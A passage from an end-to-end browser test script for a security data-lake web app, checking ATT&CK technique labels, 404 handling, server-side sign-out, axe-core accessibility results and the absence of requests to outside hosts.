  for (const name of ['e2e-events-only', 'e2e-events-open']) await api('auth/dataPolicyDelete', { name }, adminToken);
});

await step('ATT&CK technique names beside their ids on the rules page and in the technique facet', async () => {
  await page.goto(`${base}/rules`);
  await page.waitForSelector('table.rules tr.hit');
  const label = page.locator('table.rules a.technique').first();
  const id = await label.locator('.technique-id').textContent();
  check((await label.locator('.technique-name').textContent()) === attackNames[id], `rules: ${id} without its name`);
  await page.goto(`${base}/timeline?from=now-7d&to=now`);
  await searched();
  // Every technique among the facet's values carries its name. The top value need not be a
  // technique the bundled names know (the demo's data ends now, so the counts' order moves).
  const rows = page.locator('.facet[data-field="risks"] .facet-in');
  await rows.first().waitFor();
  let named = 0;
  for (let i = 0; i < await rows.count(); i++) {
    const key = await rows.nth(i).locator('.facet-key').textContent();
    if (!(key in attackNames)) continue;
    named += 1;
    check((await rows.nth(i).locator('.facet-meaning').textContent()).trim() === attackNames[key], `facet ${key} without its name`);
  }
  check(named > 0, 'no ATT&CK technique among the risks facet\'s values');
});

await step('an unknown address: the not-found page with a 404, signed in or not; API paths keep their JSON', async () => {
  const response = await page.goto(`${base}/nonexistent`);
  check(response.status() === 404 && /text\/html/.test(response.headers()['content-type']), `status ${response.status()}`);
  await page.waitForSelector('h1 >> text=Page not found');
  check((await page.locator('main').innerText()).includes('/nonexistent'), 'the address is not named');
  await shot('45-not-found');
  const r = await fetch(`${origin}/api/no/such/call`, { headers: { Accept: 'text/html' } });
  check(/application\/json/.test(r.headers.get('content-type')) && (await r.json()).verdict === 'ERROR', 'an API path answered HTML');
  const signedOut = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const p = await signedOut.newPage();
  const again = await p.goto(`${base}/app/unknown`);
  check(again.status() === 404, `signed out: status ${again.status()}`);
  await p.waitForSelector('h1 >> text=Page not found');
  check(await p.locator('a[href="/login"]').count() === 1, 'no way to sign in');
  await signedOut.close();
});

await step('sign out', async () => {
  const token = await page.evaluate(() => JSON.parse(sessionStorage.getItem('seclake.session')).sessionToken);
  await page.click('#sign-out');
  await page.waitForURL(/\/login/);
  check(await page.evaluate(() => sessionStorage.getItem('seclake.session')) === null, 'session still stored');
  // Signing out ended the session on the server too.
  const r = await fetch(`${origin}/api/auth/userList`, { method: 'POST', headers: { 'Content-Type': 'application/json', Servicetoken: token }, body: '{"kargs":{}}' });
  const sent = Number(r.headers.get('X-Seclake-Status')) || r.status;
  check(sent === 401, `the signed-out session still answered ${sent}`);
  await page.goto(`${base}/summaries`);
  await page.waitForURL(/\/login\?next=%2Fsummaries/);
});

if (AXE_ON) await step('axe-core: 0 violations (WCAG 2 A/AA) on every page, with data', async () => {
  const pages = ['login', 'search', 'query', 'facets', 'record', 'flows', 'timeline', 'summaries', 'summary-triage', 'rules',
    'admin-users', 'admin-token-created', 'admin-role-added', 'fields', 'sources', 'reference', 'policies'];
  for (const p of pages) check(axeChecked.some((n) => n.includes(p)), `axe did not check ${p}: ${axeChecked.join(', ')}`);
  check(axeFound.length === 0, `${axeFound.length} violations:\n    ${axeFound.slice(0, 60).join('\n    ')}`);
  console.log(`  axe-core checked ${axeChecked.length} pages: ${axeChecked.join(', ')}`);
  const slowest = axeMillis.sort((a, b) => b[0] - a[0]).slice(0, 5).map(([ms, n]) => `${n} ${ms} ms`);
  console.log(`  axe-core took ${axeMillis.reduce((t, [ms]) => t + ms, 0)} ms, the slowest: ${slowest.join(', ')}`);
});

await step('no request left the server, no script errors', async () => {
  check(outside.length === 0, `requests to other hosts: ${outside.slice(0, 5).join(', ')}`);
  check(pageErrors.length === 0, `errors in the page: ${pageErrors.slice(0, 5).join(' | ')}`);
});

await finish();
